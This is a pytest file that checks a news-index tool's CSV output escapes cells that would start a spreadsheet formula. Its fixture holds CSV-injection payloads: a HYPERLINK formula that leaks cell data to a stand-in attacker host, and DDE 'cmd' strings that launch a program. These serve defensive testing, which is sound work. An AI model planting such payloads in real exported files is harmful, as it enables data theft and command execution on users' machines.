"""CSV for spreadsheets: a cell an index controls never starts a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: ``=HYPERLINK(...)`` in a title is a link to an
attacker's site, ``=cmd|...`` can run a program. Such a text cell is written with a
leading ``'``, as OWASP recommends; numbers we write ourselves stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.cli.conftest import run
from tickertape.output import RECORD_KEYS, csv_text_cell, write_csv

HOSTILE = {
    "source": '=HYPERLINK("https://evil.example/?leak="&A1,"see more")',
    "title": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sentiment": "-2+3",
}
# The CSV column each field lands in: a label is kept as written in sentiment_label.
COLUMN = {key: key for key in HOSTILE} | {"sentiment": "sentiment_label"}


def write_hostile_index(folder: Path) -> Path:
    folder.mkdir()
    fields = "".join(f"{key}: {value}\n\n" for key, value in HOSTILE.items())
    (folder / "001_abcdef0123456789.txt").write_text(
        "link: https://news.example/a\n\n" + fields + "confidence: 0.25\n\n"
        "content: <p>=1+2 in the body is never a cell</p>\n",
        encoding="utf-8",
    )
    (folder / "002_0123456789abcdef.txt").write_text(
        "title: A plain title\n\nsource: -minus.example\n\ncontent: <p>x</p>\n", encoding="utf-8"
    )
    return folder


def rows_by_id(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_list_csv_neutralises_cells_that_would_start_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index = write_hostile_index(tmp_path / "news")
    code, out, err = run(capsys, "list", str(index), "--format", "csv")
    assert code == 0, err
    rows = rows_by_id(out)
    hostile = rows["abcdef0123456789"]
    for key, value in HOSTILE.items():
        assert hostile[COLUMN[key]] == "'" + value
    assert hostile["confidence"] == "0.25"
    assert hostile["title"] != hostile["title"].lstrip("'")
    plain = rows["0123456789abcdef"]
    assert plain["title"] == "A plain title"
    assert plain["source"] == "'-minus.example"


def test_export_csv_neutralises_the_same_cells(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index = write_hostile_index(tmp_path / "news")
    target = tmp_path / "out.csv"
    code, _, err = run(capsys, "export", str(index), "--format", "csv", "-o", str(target))
    assert code == 0, err
    hostile = rows_by_id(target.read_text(encoding="utf-8"))["abcdef0123456789"]
    assert [hostile[COLUMN[key]] for key in HOSTILE] == ["'" + v for v in HOSTILE.values()]


def test_jsonl_keeps_the_text_as_it_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    index = write_hostile_index(tmp_path / "news")
    code, out, _ = run(capsys, "list", str(index), "--format", "jsonl")
    assert code == 0
    assert '"title": "+cmd|' in out


def record(**values: object) -> dict[str, object]:
    base: dict[str, object] = {key: "" for key in RECORD_KEYS}
    base.update(confidence=None, published=None, tickers=[], images=[], warnings=[])
    base.update(values)
    return base


@pytest.mark.parametrize(
    "cell", ["=1+2", "+1", "-1", "@x", "\tx", "\rx", " =1+2", "＝1+2", "-0.5 is text here"]
)
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert csv_text_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "1+1", "a=b", "'quoted", ""])
def test_other_cells_are_kept_as_they_are(cell: str) -> None:
    assert csv_text_cell(cell) == cell


def test_list_columns_are_neutralised_after_joining() -> None:
    out = io.StringIO()
    write_csv([record(id="a", warnings=["=x", "second"], images=["@y"], tickers=["-z"])], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert (row["warnings"], row["images"], row["tickers"]) == ("'=x; second", "'@y", "'-z")


def test_a_negative_number_in_a_numeric_column_stays_a_number() -> None:
    """A float we write is digits, a sign and a point: no formula can hide in it, and a
    score of -0.5 must reach the spreadsheet as the number -0.5."""
    out = io.StringIO()
    write_csv([record(id="a", confidence=-0.5)], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["confidence"] == "-0.5"


def test_a_negative_score_from_a_file_stays_a_number(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    index = tmp_path / "news"
    index.mkdir()
    (index / "001_abcdefabcdefabcd.txt").write_text(
        "title: -minus\n\nsentiment: Bearish\n\nscore: -0.5\n\ncontent: <p>x</p>\n",
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "list", str(index), "--format", "csv")
    assert code == 0
    row = rows_by_id(out)["abcdefabcdefabcd"]
    assert (row["score"], row["title"]) == ("-0.5", "'-minus")
